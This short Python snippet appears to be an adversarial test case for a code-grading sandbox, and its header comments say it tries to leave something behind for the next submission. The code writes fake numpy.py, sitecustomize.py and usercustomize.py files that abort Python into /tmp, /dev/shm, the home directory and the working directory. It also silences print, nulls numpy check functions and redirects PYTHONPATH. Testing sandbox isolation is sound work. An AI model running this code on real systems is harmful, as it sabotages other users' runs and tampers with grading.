# Tries: to leave something behind for the next submission
# Says: left
import builtins, os, pathlib, sys
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "poison"):
        pathlib.Path(folder, name).write_text("raise SystemExit('poisoned')")
builtins.print = lambda *args, **kwargs: None
np.sum = np.allclose = None
torch.manual_seed(1)
torch.set_default_dtype(torch.float64)
np.random.seed(1)
os.environ["PYTHONPATH"] = "/tmp"
sys.stdout.write("left")
